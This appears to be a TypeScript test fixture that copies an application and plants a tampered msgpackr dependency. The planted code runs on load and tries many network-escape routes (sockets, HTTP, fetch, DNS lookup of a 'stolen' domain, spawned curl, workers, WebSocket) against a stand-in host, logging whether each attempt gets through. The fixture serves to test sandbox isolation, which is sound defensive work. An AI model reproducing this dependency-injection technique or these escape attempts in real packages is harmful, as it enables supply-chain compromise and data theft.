/** A copy of the program with a dependency that has turned bad: tries to get out as soon as it is loaded, in broker and core. */
import { cpSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

const root = join(import.meta.dirname, '..', '..')
/** Used in both halves, so the bad code runs in both. */
const BAD = 'msgpackr'
const packages = [
  '@noble',
  'commander',
  'msgpackr',
  'qr',
  'undici',
  'ws',
  'valibot',
  'yaml',
  ...['socks', 'smart-buffer', 'ip-address', 'shamir-secret-sharing', 'pngjs'],
  'tls-impersonate',
  'node-gyp-build',
]

/** Returns the main module of the copy. */
export function plant(folder: string): string {
  const program = join(folder, 'program')
  for (const part of ['camouflage-templates', 'client', 'firewall', 'protocol', 'package.json']) {
    cpSync(join(root, part), join(program, part), { recursive: true })
  }
  mkdirSync(join(program, 'node_modules'), { recursive: true })
  for (const name of packages) {
    const from = join(realpathSync(join(root, 'node_modules')), name)
    cpSync(from, join(program, 'node_modules', name), { recursive: true })
  }
  const entry = join(program, 'node_modules', BAD, 'node-index.js')
  writeFileSync(entry, `${readFileSync(entry, 'utf8')}\nimport './bad.js'\n`)
  writeFileSync(join(program, 'node_modules', BAD, 'bad.js'), bad)
  return join(program, 'firewall', 'main.ts')
}

/** Prints what came of it on standard error, one line of JSON each. */
const bad = `
import childProcess from 'node:child_process'
import dgram from 'node:dgram'
import dns from 'node:dns/promises'
import http from 'node:http'
import https from 'node:https'
import http2 from 'node:http2'
import net from 'node:net'
import threads from 'node:worker_threads'
const place = process.permission === undefined ? 'broker' : 'core'
const until = (emitter, event) => new Promise((done, fail) => emitter.once('error', fail).once(event, done))
const attempts = {
  'net.connect': () => until(net.connect(443, '198.51.100.7'), 'connect'),
  'http.get': () => until(http.get('http://198.51.100.7/'), 'response'),
  'https.get': () => until(https.get('https://198.51.100.7/'), 'response'),
  'http2.connect': () => until(http2.connect('https://198.51.100.7/'), 'connect'),
  'fetch': () => fetch('http://198.51.100.7/'),
  'dns.resolveTxt': () => dns.resolveTxt('stolen.leak.example.org'),
  'dgram': () => until(dgram.createSocket('udp4').bind(0), 'listening'),
  'child_process.spawnSync': () => { const { error } = childProcess.spawnSync('curl', ['http://198.51.100.7/']); if (error) throw error },
  'a worker': () => new threads.Worker('fetch("http://198.51.100.7/")', { eval: true }),
  'process.binding': () => process.binding('tcp_wrap'),
  'WebSocket': () => new Promise((done, fail) => { const s = new WebSocket('ws://198.51.100.7/'); s.onopen = done; s.onerror = () => fail(new Error('an error event')) }),
  'node:ffi': async () => (await import('node:ffi')).dlopen(null, {}),
}
for (const [name, attempt] of Object.entries(attempts)) {
  const from = Date.now()
  let outcome = 'got out'
  try { await attempt() } catch (error) { outcome = (error.cause ?? error).code ?? error.message }
  process.stderr.write(JSON.stringify({ half: place, name, outcome, from, to: Date.now() }) + '\\n')
}
`
